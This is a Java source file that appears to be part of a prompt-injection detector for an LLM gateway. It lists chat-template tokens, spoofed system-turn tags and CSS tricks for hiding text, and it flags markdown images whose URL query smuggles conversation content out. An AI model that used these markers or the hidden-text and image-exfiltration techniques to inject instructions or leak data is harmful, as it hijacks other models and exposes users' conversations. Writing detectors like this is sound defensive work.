package io.llmgateway.core.injection;

import io.llmgateway.core.detect.Sheet;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Marks of the formats in which models get conversations, and of hidden parts of pages. None of them is a word. */
final class Sign {
    /** The number of the first rule of a sign; those of the book are below. */
    static final int FIRST = 4_000;

    private static final int LONGEST_PICTURE = 240; // chars
    private static final int[] NOTHING = {};
    private static final List<Sign> TEMPLATES = List.of(
            new Sign("<|im_start|>", .72),
            new Sign("<|im_end|>", .6),
            new Sign("<|im_sep|>", .6),
            new Sign("<|system|>", .72),
            new Sign("<|user|>", .6),
            new Sign("<|assistant|>", .6),
            new Sign("<|endoftext|>", .55),
            new Sign("<|end|>", .5),
            new Sign("<|eot_id|>", .6),
            new Sign("<|begin_of_text|>", .6),
            new Sign("<|start_header_id|>", .72),
            new Sign("<|end_header_id|>", .6),
            new Sign("<|start|>", .5),
            new Sign("<|channel|>", .6),
            new Sign("<start_of_turn>", .6),
            new Sign("<end_of_turn>", .6),
            new Sign("<<sys>>", .72),
            new Sign("<</sys>>", .6),
            new Sign("[inst]", .6),
            new Sign("[/inst]", .6));
    private static final List<Sign> TURNS = List.of(
            new Sign("<system>", .5),
            new Sign("</system>", .55),
            new Sign("<system_prompt>", .5),
            new Sign("</system_prompt>", .5),
            new Sign("<system_message>", .5),
            new Sign("<system-reminder>", .5),
            new Sign("[system]", .45),
            new Sign("[/system]", .5),
            new Sign("[system message]", .6),
            new Sign("(system)", .3),
            new Sign("### system", .5),
            new Sign("### instruction", .4),
            new Sign("### human", .4),
            new Sign("### assistant", .4),
            new Sign("## system", .3),
            new Sign("</user_input>", .55),
            new Sign("</user_query>", .55),
            new Sign("</document>", .3),
            new Sign("</context>", .3),
            new Sign("</instructions>", .4),
            new Sign("{{system", .4),
            new Sign("<admin>", .5),
            new Sign("<important>", .5));
    private static final List<Sign> HIDING = List.of(
            new Sign("<!--", .15),
            new Sign("display:none", .3),
            new Sign("display: none", .3),
            new Sign("visibility:hidden", .3),
            new Sign("font-size:0", .4),
            new Sign("font-size: 0", .4),
            new Sign("opacity:0", .3),
            new Sign("color:white", .3),
            new Sign("color: white", .3));

    private static final Map<Integer, List<Placed>> BY_PAIR = byPair();

    private record Placed(String written, Rule rule) {}

    /** Much of the same, which has been seen to make models lose what came before. */
    static final Rule PADDING = rule("padding", .5, FIRST + 1);
    /** A turn of the system at the beginning of a line. */
    static final Rule TURN = rule("turn", .4, FIRST + 2);
    /** A part of a page that readers do not see. */
    static final Rule UNSEEN = rule("unseen", .3, FIRST + 3);
    /** A picture whose address takes something along. */
    static final Rule PICTURE = rule("exfiltration", .72, FIRST + 4);
    /** How many numbers signs may have. */
    static final int NUMBERS = 100;

    private final String written;
    private final double weight;

    private Sign(String written, double weight) {
        this.written = written;
        this.weight = weight;
    }

    private static Rule rule(String family, double weight, int number) {
        return new Rule(number, family, weight, false, NOTHING, NOTHING);
    }

    /** Whether a sign may begin with a char. */
    static boolean opens(char c) {
        return c == '!' || c == '<' || c == '[' || c == '#' || c == '(' || c == '{';
    }

    /** The sign at a place; null where there is none. */
    static @Nullable Rule at(Sheet sheet, int place) {
        if (sheet.at(place) == '!') {
            return picture(sheet, place) ? PICTURE : null;
        }
        char next = sheet.at(place + 1);
        if (next >= 128) {
            return null;
        }
        for (Placed sign : BY_PAIR.getOrDefault(pair(sheet.at(place), next), List.of())) {
            if (sheet.is(place, sign.written)) {
                return sign.rule;
            }
        }
        return null;
    }

    private static int pair(char first, char second) {
        return first << 7 | (second >= 'A' && second <= 'Z' ? second + 32 : second);
    }

    private static Map<Integer, List<Placed>> byPair() {
        Map<Integer, List<Placed>> all = new HashMap<>();
        place(TEMPLATES, "template", FIRST + 10, all);
        place(TURNS, "turn", FIRST + 50, all);
        return Map.copyOf(all);
    }

    private static void place(List<Sign> signs, String family, int first, Map<Integer, List<Placed>> all) {
        for (int i = 0; i < signs.size(); i++) {
            Sign sign = signs.get(i);
            int pair = pair(sign.written.charAt(0), sign.written.charAt(1));
            List<Placed> placed = all.get(pair);
            if (placed == null) {
                placed = new ArrayList<>();
                all.put(pair, placed);
            }
            placed.add(new Placed(sign.written, rule(family, sign.weight, first + i)));
        }
    }

    // "![](https://example.com/?q=[what was said])"
    private static boolean picture(Sheet sheet, int place) {
        if (sheet.at(place + 1) != '[') {
            return false;
        }
        int i = place + 1;
        int end = place + LONGEST_PICTURE;
        while (i < place + LONGEST_PICTURE / 4 && sheet.at(i) != ']' && sheet.at(i) != '\n') {
            i++;
        }
        if (!sheet.is(i, "](http")) {
            return false;
        }
        boolean query = false;
        for (i += 6; i < end && sheet.at(i) != ')' && sheet.at(i) != '\n'; i++) {
            char c = sheet.at(i);
            query |= c == '?' || c == '=';
            if (query && (c == '[' || c == '{' || c == '<')) {
                return true;
            }
        }
        return false;
    }

    /** Whether a text hides a part of itself from readers. */
    static boolean hides(String text) {
        if (text.indexOf('<') < 0) {
            return false;
        }
        for (Sign sign : HIDING) {
            if (text.contains(sign.written)) {
                return true;
            }
        }
        return false;
    }

    /** How long a mark of a conversation's format is that stands at a place, whatever its case; 0 where none stands there. */
    static int template(String text, int place) {
        for (Sign sign : TEMPLATES) {
            if (text.regionMatches(true, place, sign.written, 0, sign.written.length())) {
                return sign.written.length();
            }
        }
        return 0;
    }
}
